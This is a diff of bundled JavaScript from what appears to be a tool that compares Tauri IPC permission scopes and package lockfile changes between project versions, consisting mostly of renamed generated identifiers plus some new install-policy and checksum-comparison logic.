-  const note3 = known6 ? noteOnOrder(first) : noteOnReach(principal, owner);
+  if (known7 && base.changedSetting(owner) !== void 0) return forSetting(owner, culprit.at, base);
+  const note3 = known7 ? noteOnOrder(first) : noteOnReach(principal, owner);
   return {
     reason: widened(note3),
     at: culprit.at,
@@ -34452,16 +37427,16 @@ function ownerAmong(owners, entry) {
 }
 var globalOwners = /* @__PURE__ */ new WeakMap();
 function globalOwner(table2, plugin, entry) {
-  const known6 = globalOwners.get(table2) ?? /* @__PURE__ */ new Map();
-  globalOwners.set(table2, known6);
+  const known7 = globalOwners.get(table2) ?? /* @__PURE__ */ new Map();
+  globalOwners.set(table2, known7);
   const { path, line, column } = entry.at;
   const name = [plugin, path, line, column, entry.text].join(" ");
-  if (!known6.has(name)) known6.set(name, ownerAmong(table2.globalScope(plugin), entry));
-  return known6.get(name);
+  if (!known7.has(name)) known7.set(name, ownerAmong(table2.globalScope(plugin), entry));
+  return known7.get(name);
 }
 var keysOfSides = /* @__PURE__ */ new WeakMap();
 function allowedKeys(side) {
-  const keys = keysOfSides.get(side) ?? new Set(side.allow.map(({ text: text2 }) => text2));
+  const keys = keysOfSides.get(side) ?? new Set(side.allow.map(({ text: text3 }) => text3));
   keysOfSides.set(side, keys);
   return keys;
 }
@@ -34480,11 +37455,11 @@ function sideOf2(entries, table2) {
   const scoped = entries.filter(({ scope }) => scope !== null);
   if (scoped.length > 0)
     return sideFrom([...inOrder2(scoped), ...inOrder2(table2.globalScope(plugin))], matching2);
-  const known6 = globalSides.get(table2) ?? /* @__PURE__ */ new Map();
-  globalSides.set(table2, known6);
+  const known7 = globalSides.get(table2) ?? /* @__PURE__ */ new Map();
+  globalSides.set(table2, known7);
   const name = `${plugin} ${canonical(matching2)}`;
-  const side = known6.get(name) ?? sideFrom(inOrder2(table2.globalScope(plugin)), matching2);
-  known6.set(name, side);
+  const side = known7.get(name) ?? sideFrom(inOrder2(table2.globalScope(plugin)), matching2);
+  known7.set(name, side);
   return side;
 }
 var NO_RULES = { kind: "none" };
@@ -34509,7 +37484,7 @@ function newlyPoured(head, before2) {
   const scopes = head.filter(({ effect, at: at2 }) => effect === "scope" && !granting.has(lineOf3(at2)));
   const fresh = [...Map.groupBy(scopes, ({ plugin }) => plugin)].map(([plugin, grants]) => {
     const had = new Set(
-      before2.globalScope(plugin).flatMap(({ scope }) => scope?.allow.map(({ text: text2 }) => text2) ?? [])
+      before2.globalScope(plugin).flatMap(({ scope }) => scope?.allow.map(({ text: text3 }) => text3) ?? [])
     );
     const isNew2 = (entry) => !had.has(entry.text);
     return [plugin, grants.filter(({ scope }) => scope?.allow.some(isNew2))];
@@ -34638,7 +37613,7 @@ var Atoms = class {
     while (front.length > 0) {
       const next2 = [];
       for (const step of front) {
-        const atom = this.#atomAt(step.state, () => textOf6(step));
+        const atom = this.#atomAt(step.state, () => textOf7(step));
         if (atom !== void 0 && !found9.has(atom.inside.join())) {
           found9.add(atom.inside.join());
           yield atom;
@@ -34699,11 +37674,11 @@ var labelLanguage = remembered((pattern, work) => {
 });
 function likeLabels(texts, work) {
   const plain5 = new Set(texts.filter(isLiteral));
-  const globs2 = texts.filter((text2) => !plain5.has(text2)).flatMap((text2) => {
-    const language = labelLanguage(text2, work);
-    return language === null ? [] : [{ text: text2, language }];
+  const globs2 = texts.filter((text3) => !plain5.has(text3)).flatMap((text3) => {
+    const language = labelLanguage(text3, work);
+    return language === null ? [] : [{ text: text3, language }];
   });
-  const named9 = globs2.length;
+  const named10 = globs2.length;
   const languages3 = [
     ...globs2.map(({ language }) => language),
     wordTree(globs2.length === 0 ? [] : [...plain5], work)
@@ -34719,11 +37694,11 @@ function likeLabels(texts, work) {
   for (const word2 of [...plain5, "main", "another-window", ...texts.map(labelFor)])
     note3(word2, atoms.of(word2)?.inside ?? []);
   if (globs2.length === 0) return [...found9.values()];
-  for (const { word: word2, inside } of atoms.walk()) if (!inside.includes(named9)) note3(word2, inside);
+  for (const { word: word2, inside } of atoms.walk()) if (!inside.includes(named10)) note3(word2, inside);
   return [...found9.values()];
 }
-function isLiteral(text2) {
-  return !/[*?[\]]/.test(text2);
+function isLiteral(text3) {
+  return !/[*?[\]]/.test(text3);
 }
 function labelFor(pattern) {
   return pattern.replace(/\[[^[\]]*\]/g, "x").replace(/\*+/g, "x").replaceAll("?", "x");
@@ -34734,9 +37709,9 @@ function likeOrigins(texts, work) {
   const local = { word: LOCAL, matches: /* @__PURE__ */ new Set() };
   if (texts.length > MOST_SITES) throw new TooComplex(`more than ${MOST_SITES} kinds of sites`);
   const patterns3 = new Map(
-    texts.flatMap((text2) => {
-      const pattern = comparableUrlPattern(text2, work);
-      return typeof pattern === "string" ? [] : [[text2, pattern]];
+    texts.flatMap((text3) => {
+      const pattern = comparableUrlPattern(text3, work);
+      return typeof pattern === "string" ? [] : [[text3, pattern]];
     })
   );
   if (patterns3.size === 0) return [local];
@@ -34756,7 +37731,7 @@ function audienceKey(audience) {
 }
 var audienceKeys = /* @__PURE__ */ new WeakMap();
 function writtenOut2({ windows: windows2, webviews, context: context2 }) {
-  const texts = (patterns3) => patterns3.map(({ text: text2 }) => text2).sort();
+  const texts = (patterns3) => patterns3.map(({ text: text3 }) => text3).sort();
   return JSON.stringify([texts(windows2), texts(webviews), context2.kind, urlOf(context2)?.text]);
 }
 function urlOf(context2) {
@@ -34793,9 +37768,9 @@ function pageClasses(grants, work) {
   return classes.all();
 }
 function telling(labels, windows2) {
-  const known6 = new Set(windows2);
+  const known7 = new Set(windows2);
   const [ofWindows = [], others = []] = [true, false].map(
-    (is) => labels.filter(({ word: word2 }) => known6.has(word2) === is)
+    (is) => labels.filter(({ word: word2 }) => known7.has(word2) === is)
   );
   return onePerMask([...others, ...ofWindows], ({ asWebview }) => asWebview);
 }
@@ -34825,9 +37800,9 @@ var Classes = class {
     }
   }
   #add(mask, principal) {
-    const known6 = this.#found.get(mask);
-    if (known6 !== void 0) {
-      if (known6.principals.length < MOST_NAMED) known6.principals.push(principal);
+    const known7 = this.#found.get(mask);
+    if (known7 !== void 0) {
+      if (known7.principals.length < MOST_NAMED) known7.principals.push(principal);
       return;
     }
     if (this.#found.size >= MOST_CLASSES) throw new TooComplex(`more than ${MOST_CLASSES} kinds of pages`);
@@ -34847,9 +37822,9 @@ var AudienceMasks = class {
   constructor(audiences) {
     for (const [i2, { windows: windows2, webviews, context: context2 }] of audiences.entries()) {
       const bit = 1n << BigInt(i2);
-      const add3 = (masks, text2) => masks.set(text2, (masks.get(text2) ?? 0n) | bit);
-      for (const { text: text2 } of windows2) add3(this.windows, text2);
-      for (const { text: text2 } of webviews) add3(this.webviews, text2);
+      const add3 = (masks, text3) => masks.set(text3, (masks.get(text3) ?? 0n) | bit);
+      for (const { text: text3 } of windows2) add3(this.windows, text3);
+      for (const { text: text3 } of webviews) add3(this.webviews, text3);
       if (context2.kind === "local") this.local |= bit;
       const url = urlOf(context2);
       if (url !== void 0) add3(this.urls, url.text);
@@ -34858,7 +37833,7 @@ var AudienceMasks = class {
 };
 function maskOf(texts, masks) {
   let sum = 0n;
-  for (const text2 of texts) sum |= masks.get(text2) ?? 0n;
+  for (const text3 of texts) sum |= masks.get(text3) ?? 0n;
   return sum;
 }
 function keysIn(mask, keys) {
@@ -34930,9 +37905,9 @@ function platformGroups(base, head) {
   for (const platform of PLATFORMS) {
     const here = (grants) => grants.filter((grant) => hasPlatform(grant.platforms, platform));
     const name = membership(base, platform) + membership(head, platform);
-    const known6 = groups3.get(name);
-    const platforms = (known6?.platforms ?? 0) | platformSet(platform);
-    groups3.set(name, known6 ? { ...known6, platforms } : { platforms, base: here(base), head: here(head) });
+    const known7 = groups3.get(name);
+    const platforms = (known7?.platforms ?? 0) | platformSet(platform);
+    groups3.set(name, known7 ? { ...known7, platforms } : { platforms, base: here(base), head: here(head) });
   }
   return [...groups3.values()];
 }
@@ -35004,7 +37979,7 @@ var Drafts = class {
     draft.commands.add(call2.command);
     draft.permissions.add(cause.entry.permission);
     const page = pageName(call2.principal, cause);
-    draft.pages.set(keyOf5(page), page);
+    draft.pages.set(keyOf7(page), page);
     if (isNoted(cause.reason)) draft.noted ??= cause.reason;
     draft.platforms |= platformSet(call2.platform);
     const worth = worthOf(call2);
@@ -35035,7 +38010,7 @@ function emptyDraft(cause, best) {
     bestWorth: worthOf(best)
   };
 }
-function keyOf5({ kind, label, from }) {
+function keyOf7({ kind, label, from }) {
   return `${kind}\0${label}\0${from.kind}\0${from.kind === "site" ? from.url : ""}`;
 }
 function lineOf4({ reason, at: { path, line, column }, detail }) {
@@ -35044,8 +38019,8 @@ function lineOf4({ reason, at: { path, line, column }, detail }) {
 }
 function identityOf4({ reason, entry, detail }) {
   const what = reason.rule.slice("ipc/".length);
-  const setting10 = settingIn2(reason);
-  if (setting10 !== null) return JSON.stringify([what, setting10]);
+  const setting12 = settingIn2(reason);
+  if (setting12 !== null) return JSON.stringify([what, setting12]);
   const denial = denialIn(reason);
   if (denial.length > 0) return JSON.stringify([what, ...denial, detail]);
   return JSON.stringify([what, entry.capability, isOfWhole(reason) ? "" : entry.permission, detail]);
@@ -35136,7 +38111,7 @@ function namesPath({ example }) {
 // src/compare/ipc/lost-guards.ts
 function lostGuards(base, head) {
   const standing2 = Map.groupBy(head, effectOf2);
-  const stands = (guard) => standing2.get(effectOf2(guard))?.some((other) => holdsWherever(other, guard)) === true;
+  const stands = (guard2) => standing2.get(effectOf2(guard2))?.some((other) => holdsWherever(other, guard2)) === true;
   const allowing = Map.groupBy(
     head.filter(({ effect }) => effect === "allow"),
     ({ plugin }) => plugin
@@ -35162,22 +38137,22 @@ function effectOf2({ effect, context: context2, plugin, command, scope, leaf }) 
   return wordsOf(effect, context2, plugin, command, scope, leaf);
 }
 function holdsWherever(grant, other) {
-  const named9 = ({ windows: windows2, webviews }) => [
-    ...windows2.map(({ text: text2 }) => `window ${text2}`),
-    ...webviews.map(({ text: text2 }) => `webview ${text2}`)
+  const named10 = ({ windows: windows2, webviews }) => [
+    ...windows2.map(({ text: text3 }) => `window ${text3}`),
+    ...webviews.map(({ text: text3 }) => `webview ${text3}`)
   ];
-  const own = new Set(named9(grant));
-  return (other.platforms & ~grant.platforms) === NO_PLATFORM && named9(other).every((name) => own.has(name));
+  const own = new Set(named10(grant));
+  return (other.platforms & ~grant.platforms) === NO_PLATFORM && named10(other).every((name) => own.has(name));
 }
 
 // src/compare/ipc/pattern-gaps.ts
 function patternGaps(grants, work) {
-  return [...unreadablePatterns(grants, work)].map(([{ text: text2, at: at2 }, why]) => {
-    const granted = grants.filter((grant) => patternsOf(grant).some((pattern) => pattern.text === text2));
+  return [...unreadablePatterns(grants, work)].map(([{ text: text3, at: at2 }, why]) => {
+    const granted = grants.filter((grant) => patternsOf(grant).some((pattern) => pattern.text === text3));
     return gapAt(at2, {
       kind: "does-not-build",
-      rests: wordsOf("pattern", text2, granted.map(meaningOf).sort()),
-      message: `${code(text2)} ${why}. It was read as matching nothing.`
+      rests: wordsOf("pattern", text3, granted.map(meaningOf).sort()),
+      message: `${code(text3)} ${why}. It was read as matching nothing.`
     });
   });
 }
@@ -35220,7 +38195,7 @@ function scopeWithout(scope, stays) {
 // src/compare/ipc/scopes/opaque.ts
 var opaqueQuestion = (base, head) => {
   const emptyMeansAll = head.matching.kind === "opaque" && head.matching.empty === "everything";
-  const denied2 = new Set(head.deny.map(({ text: text2 }) => text2));
+  const denied2 = new Set(head.deny.map(({ text: text3 }) => text3));
   const lost2 = base.deny.filter((entry) => !denied2.has(entry.text));
   const escapes = lost2.map((entry) => found8(entry, "no-longer-denied"));
   const [some2] = base.allow;
@@ -35228,7 +38203,7 @@ var opaqueQuestion = (base, head) => {
   if (head.allow.length === 0 && some2 !== void 0) {
     return emptyMeansAll ? { escapes: [anything(some2), ...escapes], undecided: [] } : { escapes, undecided: [UNKNOWN5] };
   }
-  const had = new Set(base.allow.map(({ text: text2 }) => text2));
+  const had = new Set(base.allow.map(({ text: text3 }) => text3));
   const fresh = head.allow.filter((entry) => !had.has(entry.text));
   return { escapes: [...fresh.map((entry) => found8(entry, "allowed")), ...escapes], undecided: [] };
 };
@@ -35264,8 +38239,8 @@ var allUrls = remembered((users, work) => {
   );
   return languageOf(choice(...kinds2.map((parts) => written5(parts, work))), work);
 });
-var urlsOf2 = remembered((text2, work) => {
-  const pattern = readUrlPattern(text2, work);
+var urlsOf2 = remembered((text3, work) => {
+  const pattern = readUrlPattern(text3, work);
   if (typeof pattern === "string") return void 0;
   const kinds2 = httpKinds().map(({ parts }) => {
     const within4 = (name) => [name, common(partLanguage(pattern[name], work), parts[name], work)];
@@ -35310,21 +38285,21 @@ var urlTextQuestion = (base, head, _command, _platform, work) => {
   const universe = isGlobs ? webUrls(work) : userlessUrls(work);
   const [before2, after2] = [urlTexts(base, !isGlobs, work), urlTexts(head, !isGlobs, work)];
   const answer = compareScopes(before2, after2, readingOf3(head, universe), work);
-  return isGlobs ? answer : { ...answer, refused: refusals(head, work) };
+  return isGlobs ? answer : { ...answer, refused: refusals2(head, work) };
 };
 function urlTexts(side, isUserless, work) {
   const isGlobs = side.matching.kind === "url-globs";
-  if (!isGlobs && refusals(side, work).length > 0) return { allow: [], deny: [] };
-  const read7 = (entry) => {
+  if (!isGlobs && refusals2(side, work).length > 0) return { allow: [], deny: [] };
+  const read9 = (entry) => {
     const question = JSON.stringify([isGlobs, isUserless, urlPatternOf(entry)]);
     return { entry, language: readable(() => languages2(question, work)) };
   };
-  return { allow: side.allow.map(read7), deny: side.deny.map(read7) };
+  return { allow: side.allow.map(read9), deny: side.deny.map(read9) };
 }
 var languages2 = remembered((question, work) => {
-  const [isGlobs, isUserless, text2] = JSON.parse(question);
-  const urls2 = isGlobs ? void 0 : urlsOf2(text2, work);
-  const expression = isGlobs ? globExpression(text2, FREE_GLOB) : urls2 && words(urls2);
+  const [isGlobs, isUserless, text3] = JSON.parse(question);
+  const urls2 = isGlobs ? void 0 : urlsOf2(text3, work);
+  const expression = isGlobs ? globExpression(text3, FREE_GLOB) : urls2 && words(urls2);
   return expression && inUniverse(expression, isUserless ? userlessUrls(work) : webUrls(work), work);
 });
 var LOCAL_SERVICE = `http://localhost:${ANY_PORT}/`;
@@ -35336,10 +38311,10 @@ function readingOf3(head, universe) {
     LOCAL_SERVICE,
     "http://localhost:8080/"
   ];
-  const named9 = head.allow.flatMap((entry) => globExamples(urlPatternOf(entry)));
+  const named10 = head.allow.flatMap((entry) => globExamples(urlPatternOf(entry)));
   return {
     universe,
-    candidates: [...telling2, ...named9].map((word2) => ({
+    candidates: [...telling2, ...named10].map((word2) => ({
       word: word2,
       sensitive: isAnywhere(word2) || word2 === LOCAL_SERVICE
     })),
@@ -35364,8 +38339,8 @@ function scopeAsker() {
     const { kind } = head.matching;
     const about = [commandMatters(kind) ? command : "", platformMatters(kind) ? platform : ""];
     const question = [kind, ...about, sideKey(base), sideKey(head)].join("\n");
-    const known6 = answers.get(question);
-    if (known6 !== void 0) return known6;
+    const known7 = answers.get(question);
+    if (known7 !== void 0) return known7;
     const answer = sideKey(base) === sideKey(head) ? NO_ESCAPE : decide2(questionFor(base, head), base, head, command, platform, work);
     answers.set(question, answer);
     return answer;
@@ -35394,7 +38369,7 @@ function sideKey(side) {
 }
 function writtenOut3({ allow: allow2, deny, matching: matching2 }) {
   const rules2 = "literalDot" in matching2 ? [matching2.literalDot, matching2.directories.moved] : matching2.kind === "text" ? matching2.accepts : "";
-  const lists = [allow2, deny].map((entries) => `[${entries.map(({ text: text2 }) => text2).join(",")}]`);
+  const lists = [allow2, deny].map((entries) => `[${entries.map(({ text: text3 }) => text3).join(",")}]`);
   return [matching2.kind, canonical(rules2), ...lists].join(" ");
 }
 function platformMatters(kind) {
@@ -35406,9 +38381,9 @@ function commandMatters(kind) {
 
 // src/compare/ipc/taken-for-local.ts
 function withoutKnownSites(base, head) {
-  const known6 = new Set(base.flatMap(siteOf)).intersection(new Set(head.flatMap(siteOf)));
-  if (known6.size === 0) return { base, head };
-  const isNews = (grant) => siteOf(grant).every((site) => !known6.has(site));
+  const known7 = new Set(base.flatMap(siteOf)).intersection(new Set(head.flatMap(siteOf)));
+  if (known7.size === 0) return { base, head };
+  const isNews = (grant) => siteOf(grant).every((site) => !known7.has(site));
   return { base: base.filter(isNews), head: head.filter(isNews) };
 }
 function siteOf({ context: context2 }) {
@@ -35454,9 +38429,9 @@ function isSure({ command, inferred }) {
 }
 var sureGrants = /* @__PURE__ */ new WeakMap();
 function sureOf(grants) {
-  const known6 = sureGrants.get(grants) ?? grants.filter(isSure);
-  sureGrants.set(grants, known6);
-  return known6;
+  const known7 = sureGrants.get(grants) ?? grants.filter(isSure);
+  sureGrants.set(grants, known7);
+  return known7;
 }
 function gained2(base, head, direction, pages, ask, work) {
   const drafts = new Drafts();
@@ -35466,7 +38441,7 @@ function gained2(base, head, direction, pages, ask, work) {
   const sides = { drafts, ask, work, base: indexBase(sure), head: standing(head) };
   for (const group2 of platformGroups(sure, head.filter(isSure))) {
     const [before2, after2] = [callTable(group2.base), callTable(group2.head)];
-    const asked2 = {
+    const asked3 = {
       ...sides,
       before: before2,
       after: after2,
@@ -35479,7 +38454,7 @@ function gained2(base, head, direction, pages, ask, work) {
       for (const command of after2.commands(page.audiences)) {
         if (after2.denying(page.audiences, command).length > 0) continue;
         if (openAlready && command === ANY_APP_COMMAND && page.principals[0].origin !== "local") continue;
-        const question = { ...asked2, page, command };
+        const question = { ...asked3, page, command };
         const gaps = isNew(question) ? noteNewCall(question) : noteWiderScope(question);
         for (const gap3 of gaps) undecided.set(JSON.stringify(gap3), gap3);
       }
@@ -35488,10 +38463,10 @@ function gained2(base, head, direction, pages, ask, work) {
   return { drafts, gaps: [...undecided.values()] };
 }
 function callableBy(pages, table2) {
-  const known6 = /* @__PURE__ */ new Map();
+  const known7 = /* @__PURE__ */ new Map();
   return (origin) => {
-    const found9 = known6.get(origin) ?? new Set(pages.flatMap((page) => callableFrom(origin, page, table2)));
-    known6.set(origin, found9);
+    const found9 = known7.get(origin) ?? new Set(pages.flatMap((page) => callableFrom(origin, page, table2)));
+    known7.set(origin, found9);
     return found9;
   };
 }
@@ -35509,6 +38484,37 @@ function tooComplex(at2, { message }) {
 
 // src/compare/packages/allows.ts
 function allowsPackage(grants, change) {
+  switch (change.rule) {
+    case "packages/unpinned":
+      return takesUnpinned(grants, change);
+    case "build/install-script-approved":
+    case "build/installer-extended":
+    case "packages/source-replaced":
+    case "packages/install-guard-removed":
+      return allowsSetting(grants, change);
+    default:
+      return allowsRelease(grants, change);
+  }
+}
+function allowsSetting(grants, change) {
+  const { folder, setting: setting12 } = change;
+  for (const grant of grants) {
+    if (grant.kind !== "install-policy" || grant.folder !== folder) continue;
+    const has4 = grant.settings.some(
+      ({ name, value, of: of2, effect }) => value === setting12.value && of2 === setting12.of && effect === setting12.effect && (name === setting12.name || setting12.decides === "approval")
+    );
+    if (has4 !== (setting12.effect === "less")) return true;
+  }
+  return false;
+}
+function takesUnpinned(grants, { witness }) {
+  const { ecosystem, name, version, source } = witness;
+  return grants.some((grant) => {
+    if (grant.kind !== "unpinned-package" || grant.ecosystem !== ecosystem) return false;
+    return grant.name === name && grant.wanted === version && grant.from === source;
+  });
+}
+function allowsRelease(grants, change) {
   const { witness } = change;
   for (const grant of grants) {
     if (grant.kind !== "package" || grant.ecosystem !== witness.ecosystem || grant.name !== witness.name)
@@ -35541,19 +38547,18 @@ function ownerOf(source) {
 
 // src/domain/package.ts
 var BUILD_STEPS = ["build-script", "proc-macro", "install-script"];
-var SCRIPT_POLICIES = ["all", "approved", "none"];
 function packageKey2({ ecosystem, name }) {
   return `${ecosystem} ${name}`;
 }
 
 // src/compare/packages/versions.ts
-var import_parse33 = __toESM(require_parse(), 1);
+var import_parse36 = __toESM(require_parse(), 1);
 function nearestOf(before2) {
   const newest = /* @__PURE__ */ new Map();
   for (const each of before2) {
     for (const key of ["", lineOf5(each)]) {
-      const known6 = newest.get(key);
-      if (known6 === void 0 || isNewer(each, known6)) newest.set(key, each);
+      const known7 = newest.get(key);
+      if (known7 === void 0 || isNewer2(each, known7)) newest.set(key, each);
     }
   }
   return (each) => newest.get(lineOf5(each)) ?? newest.get("");
@@ -35564,14 +38569,14 @@ function moveBetween(from, to) {
   return lineOf5(from) === lineOf5(to) ? "compatible" : "breaking";
 }
 function lineOf5({ version, ecosystem }) {
-  const parsed7 = (0, import_parse33.default)(version);
+  const parsed7 = (0, import_parse36.default)(version);
   if (parsed7 === null) return version;
   const { major, minor, patch } = parsed7;
   if (major > 0 || ecosystem === "npm") return `${major}`;
   return minor > 0 ? `0.${minor}` : `0.0.${patch}`;
 }
-function isNewer(a3, b5) {
-  const [left2, right] = [(0, import_parse33.default)(a3.version), (0, import_parse33.default)(b5.version)];
+function isNewer2(a3, b5) {
+  const [left2, right] = [(0, import_parse36.default)(a3.version), (0, import_parse36.default)(b5.version)];
   if (left2 === null || right === null) return right === null && left2 !== null;
   return left2.compare(right) > 0;
 }
@@ -35581,10 +38586,10 @@ function broughtBy(each, before2, after2) {
   if (before2.named(each).packages.length > 0) return null;
   for (const name of each.path.slice(0, -1).reverse()) {
     const asking = { ecosystem: each.ecosystem, name };
-    const known6 = before2.named(asking);
-    if (known6.packages.length === 0) continue;
+    const known7 = before2.named(asking);
+    if (known7.packages.length === 0) continue;
     const quiet = after2.named(asking).packages.some((it2) => {
-      return it2.source.kind !== "path" && ["compatible", "same"].includes(moveBetween(known6.nearest(it2), it2));
+      return it2.source.kind !== "path" && ["compatible", "same"].includes(moveBetween(known7.nearest(it2), it2));
     });
     return quiet ? name : null;
   }
@@ -35603,6 +38608,7 @@ function unsettled(before2, after2) {
   for (const taken3 of stepsTaken(after2)) {
     const old = before2.named(taken3.package).packages;
     if (old.some((other) => matches2(other, taken3))) continue;
+    if (before2.ran(taken3.package)) continue;
     for (const other of old) if (isOpen3(other)) result2.add(other);
   }
   return [...result2];
@@ -35635,11 +38641,18 @@ var STRENGTH = ["sha512", "sha384", "sha256", "sha1"];
 function pinningOf(before2, after2) {
   if (before2 === null || before2 === after2) return "as much";
   if (after2 === null) return "less";
+  const [wasOf, isOf2] = [kindOf5(before2), kindOf5(after2)];
+  if (wasOf !== isOf2) return "unknown";
+  if (isOf2 !== OF_ARCHIVE) return "less";
   const [old, now] = [hashesOf(before2), hashesOf(after2)];
   const [was, is] = [strongest(old), strongest(now)];
   if (is !== was) return is < was ? "unknown" : "less";
-  const [known6, named9] = [old.get(STRENGTH[is] ?? ""), now.get(STRENGTH[is] ?? "")];
-  return known6 !== void 0 && named9?.isSubsetOf(known6) === true ? "as much" : "less";
+  const [known7, named10] = [old.get(STRENGTH[is] ?? ""), now.get(STRENGTH[is] ?? "")];
+  return known7 !== void 0 && named10?.isSubsetOf(known7) === true ? "as much" : "less";
+}
+var OF_ARCHIVE = "archive";
+function kindOf5(text3) {
+  return /^([^/\s-]*)\/[0-9a-f]+$/.exec(text3)?.[1] ?? OF_ARCHIVE;
 }
 function hashesOf(integrity) {
   const hashes = /* @__PURE__ */ new Map();
@@ -35656,7 +38669,7 @@ function strongest(hashes) {
 }
 
 // src/compare/packages/inventory.ts
-var NOTHING8 = namedOf([]);
+var NOTHING9 = namedOf([]);
 function inventoryOf(grants) {
   const packages = distinct4(grants.filter((grant) => grant.kind === "package"));
   const unread4 = grants.filter((grant) => grant.kind === "unread-lockfile");
@@ -35670,7 +38683,7 @@ function inventoryOf(grants) {
     packages,
     unread: unread4,
     policies: grants.filter((grant) => grant.kind === "install-policy"),
-    named: (each) => byName.get(packageKey2(each)) ?? NOTHING8,
+    named: (each) => byName.get(packageKey2(each)) ?? NOTHING9,
     same,
     ran: (each) => same(each).some(({ outcome: outcome2 }) => outcome2 === "runs"),
     isEmpty: (ecosystem) => !ecosystems.has(ecosystem),
@@ -35725,14 +38738,14 @@ function changedChecksums(before2, after2) {
   return pinned(before2, after2, "less");
 }
 function otherHashes(before2, after2) {
-  return pinned(before2, after2, "unknown");
+  return pinned(before2, after2, "unknown").filter(({ asks, unknown: unknown3 }) => asks === null || unknown3 !== null);
 }
 function pinned(before2, after2, wanted) {
-  const known6 = Map.groupBy(before2.packages, bytesOf2);
+  const known7 = Map.groupBy(before2.packages, bytesOf2);
   const seen = /* @__PURE__ */ new Set();
   return after2.packages.filter((each) => {
     const key = JSON.stringify([bytesOf2(each), each.checksum]);
-    const old = seen.has(key) ? void 0 : known6.get(bytesOf2(each));
+    const old = seen.has(key) ? void 0 : known7.get(bytesOf2(each));
     seen.add(key);
     if (old === void 0) return false;
     const pinnings = new Set(old.map((other) => pinningOf(other.checksum, each.checksum)));
@@ -35825,13 +38838,13 @@ function stepNews(step, { links, outcome: outcome2 }, { from, broughtBy: by }) {
   }
 }
 function newNames(before2, after2) {
-  const names2 = /* @__PURE__ */ new Map();
+  const names3 = /* @__PURE__ */ new Map();
   for (const each of after2.packages) {
-    if (each.source.kind === "path" || names2.has(packageKey2(each)) || before2.named(each).packages.length > 0)
+    if (each.source.kind === "path" || names3.has(packageKey2(each)) || before2.named(each).packages.length > 0)
       continue;
-    names2.set(packageKey2(each), each);
+    names3.set(packageKey2(each), each);
   }
-  return [...names2.values()];
+  return [...names3.values()];
 }
 var PLUGIN2 = { cargo: /^tauri-plugin-/, npm: /^@tauri-apps\/plugin-/ };
 function newPlugins(before2, after2) {
@@ -35856,7 +38869,7 @@ function withdrawnReleases(before2, after2) {
 }
 function folded3(all) {
   const things = [...Map.groupBy(all, thingOf).values()].flatMap(asOne);
-  return [...Map.groupBy(things, kindOf4).values()].flatMap((group2) => {
+  return [...Map.groupBy(things, kindOf6).values()].flatMap((group2) => {
     const alone = group2.some((each) => each.lockfileIsNew) ? 0 : MOST_OF_ONE_KIND;
     return [...group2.slice(0, alone), ...asOne(group2.slice(alone))];
   });
@@ -35864,7 +38877,7 @@ function folded3(all) {
 function thingOf(each) {
   switch (each.news.rule) {
     case "packages/package-added":
-      return kindOf4(each);
+      return kindOf6(each);
     case "packages/source-changed": {
       const { package: it2, from } = each;
       return JSON.stringify([it2.ecosystem, it2.at.path, from && originOf4(from.source), originOf4(it2.source)]);
@@ -35873,7 +38886,7 @@ function thingOf(each) {
       return each;
   }
 }
-function kindOf4({ news, package: each, from, broughtBy: by }) {
+function kindOf6({ news, package: each, from, broughtBy: by }) {
   const grave = [moveBetween(from, each), by !== null, each.outcome, each.checksum === null, each.listing];
   return JSON.stringify([news.rule, each.ecosystem, each.at.path, ...grave]);
 }
@@ -35889,8 +38902,8 @@ function newlyCounting(before2, after2) {
   const gaps = after2.policies.flatMap(({ folder, lock }) => {
     const old = before2.policies.find((each) => each.folder === folder);
     if (lock === null || old === void 0 || counted2.has(lock) || !there.has(lock)) return [];
-    const known6 = new Set(before2.packages.filter(({ at: at2 }) => at2.path === old.lock).map(releaseOf2));
-    const added = after2.packages.filter((each) => each.at.path === lock && !known6.has(releaseOf2(each)));
+    const known7 = new Set(before2.packages.filter(({ at: at2 }) => at2.path === old.lock).map(releaseOf2));
+    const added = after2.packages.filter((each) => each.at.path === lock && !known7.has(releaseOf2(each)));
     return gapOf2(lock, old.lock, added);
   });
   return [...new Map(gaps.map((gap3) => [gap3.rests, gap3])).values()];
@@ -35901,14 +38914,14 @@ function releaseOf2(each) {
 function gapOf2(lock, old, added) {
   const [first] = added;
   if (first === void 0) return [];
-  const names2 = someOf(added.map(({ name, version }) => `${name} ${version}`));
+  const names3 = someOf(added.map(({ name, version }) => `${name} ${version}`));
   const place = old === null ? "" : `, in the place of ${code(old)}`;
-  const message = `${code(lock)} lay there before and newly counts${place}: installing takes ${names2} from it, which was not what installing took. Let npm write it anew.`;
+  const message = `${code(lock)} lay there before and newly counts${place}: installing takes ${names3} from it, which was not what installing took. Let npm write it anew.`;
   return [gapAt(first.at, { kind: "not-checked", rests: wordsOf("counting lockfile", lock, old), message })];
 }
 
 // src/compare/packages/entries.ts
-function unpinned2(before2, after2) {
+function unpinned3(before2, after2) {
   return after2.packages.filter((each) => {
     const isFetched = each.source.kind === "registry" || each.source.kind === "tarball";
     return each.ecosystem === "npm" && isFetched && each.checksum === null && before2.same(each).length === 0;
@@ -35917,7 +38930,15 @@ function unpinned2(before2, after2) {
 function changedEntries(before2, after2) {
   return after2.packages.filter((each) => {
     const old = before2.same(each);
-    return old.length > 0 && old.every(({ declared: declared3 }) => declared3 !== each.declared);
+    return each.declared !== null && isOther(old, each);
+  });
+}
+function isOther(old, each) {
+  return old.length > 0 && old.every(({ declared: declared3 }) => declared3 !== null && declared3 !== each.declared);
+}
+function forgottenEntries(before2, after2) {
+  return after2.packages.filter((each) => {
+    return each.manager === "npm" && each.declared === null && isOther(before2.same(each), each);
   });
 }
 function takenNames(before2, after2) {
@@ -35932,65 +38953,44 @@ function takenNames(before2, after2) {
 }
 
 // src/compare/packages/folders.ts
-function folderOf4(path) {
+function folderOf5(path) {
   return path.slice(0, Math.max(0, path.lastIndexOf("/")));
 }
 function withAncestors2(folder) {
-  return folder === "" ? [""] : [folder, ...withAncestors2(folderOf4(folder))];
+  return folder === "" ? [""] : [folder, ...withAncestors2(folderOf5(folder))];
 }
+
+// src/domain/install-policy.ts
+var SCRIPT_POLICIES = ["all", "approved", "none"];
 
 // src/compare/packages/policies.ts
 function policyGaps(before2, after2) {
-  return after2.policies.flatMap((policy) => {
-    const old = counterpartOf(policy, before2, after2);
-    return [...newSettings(old, policy), ...lostSettings2(old, policy), ...lostFlags(old, policy)];
-  });
+  return after2.policies.flatMap((policy) => lostFlags(counterpartOf(policy, before2, after2), policy));
 }
 function undecidedBy(before2, after2) {
   const stricter = new Set(
